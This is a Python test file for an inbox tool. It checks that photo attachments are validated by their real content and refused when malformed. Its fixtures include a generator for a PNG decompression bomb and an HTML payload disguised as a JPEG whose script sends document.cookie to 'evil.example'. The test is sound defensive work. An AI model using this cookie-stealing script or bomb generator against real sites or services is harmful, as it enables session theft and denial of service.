"""Finding 10: the inbox never writes a stranger's bytes under a photo's name.

Through `vigie inbox show --attachments`: HTML declared `image/jpeg`, the
review's 875 KB PNG that decodes to 858 MiB, a truncated PNG and a PNG
declared as JPEG go in one tip with a genuine JPEG; only real images are
written, with the extension of what they really are.
"""

from __future__ import annotations

import functools
import io
import struct
import zlib
from datetime import date
from pathlib import Path
from typing import Any

import pytest
from PIL import Image

from tests.conftest import make_config
from tests.test_inbox_helpers import place_tip, png, vigie
from vigie.core import envelope
from vigie.core.storage import DirStore
from vigie.inbox import photos


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


@functools.cache
def png_bomb(side: int = 15000) -> bytes:
    """A valid RGBA PNG of side × side pixels, all zero: tiny compressed, huge decoded."""
    row = b"\0" * (1 + 4 * side)
    z = zlib.compressobj(9)
    idat = b"".join(z.compress(row * 500) for _ in range(side // 500)) + z.flush()
    header = struct.pack(">IIBBBBB", side, side, 8, 6, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + _chunk(b"IHDR", header)
        + _chunk(b"IDAT", idat)
        + _chunk(b"IEND", b"")
    )


def jpeg() -> bytes:
    buf = io.BytesIO()
    Image.new("RGB", (12, 8), "green").save(buf, format="JPEG")
    return buf.getvalue()


def test_show_writes_only_real_images_under_their_real_type(
    tmp_path: Path, identity: Any, identity_file: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    bomb = png_bomb()
    assert 800_000 < len(bomb) < 900_000  # the review's 875 KB, 858 MiB once decoded
    html = b"<!doctype html><script>location='https://evil.example/'+document.cookie</script>"
    attachments = (
        envelope.Attachment("image/jpeg", jpeg()),
        envelope.Attachment("image/jpeg", html),
        envelope.Attachment("image/png", bomb),
        envelope.Attachment("image/png", png("red", 32)[:-30]),
        envelope.Attachment("image/jpeg", png("blue", 16)),
    )
    cfg = make_config(f"dir:{tmp_path / 'store'}", [str(identity.to_public())], tmp_path)
    store = DirStore(tmp_path / "store")
    tip = envelope.Tip(category="spot", description="photos", attachments=attachments)
    receipt = place_tip(cfg, store, tip, date.today())
    conf = tmp_path / "vigie.toml"
    conf.write_text(f'[intake]\nstore = "dir:{tmp_path / "store"}"\n')
    cache, out = tmp_path / "cache", tmp_path / "photos"
    assert vigie(capsys, "--config", conf, "inbox", "pull", "--cache", cache).code == 0
    r = vigie(capsys, "--config", conf, "inbox", "show", receipt, "--cache", cache,
              "-i", identity_file, "--attachments", out)  # fmt: skip
    assert r.code == 0, r.err
    written = sorted(p.name for p in out.iterdir())
    assert written == [f"{receipt}-1.jpg", f"{receipt}-5.png"]
    assert (out / f"{receipt}-5.png").read_bytes() == attachments[4].data
    assert "photo 2 (déclarée image/jpeg) : contenu qui n'est ni une image JPEG" in r.out
    assert "photo 3 (déclarée image/png) : image démesurée (plus de 50 millions de pixels" in r.out
    assert "photo 4 (déclarée image/png) : image illisible ou tronquée" in r.out
    assert "photo 5 : déclarée image/jpeg, c'est en fait image/png" in r.out


def test_the_bomb_is_refused_from_its_header_without_decoding() -> None:
    checked = photos.check(envelope.Attachment("image/png", png_bomb()))
    assert not checked.ok and "démesurée" in checked.problem
    assert Image.MAX_IMAGE_PIXELS == photos.MAX_PIXELS  # the limit is set explicitly
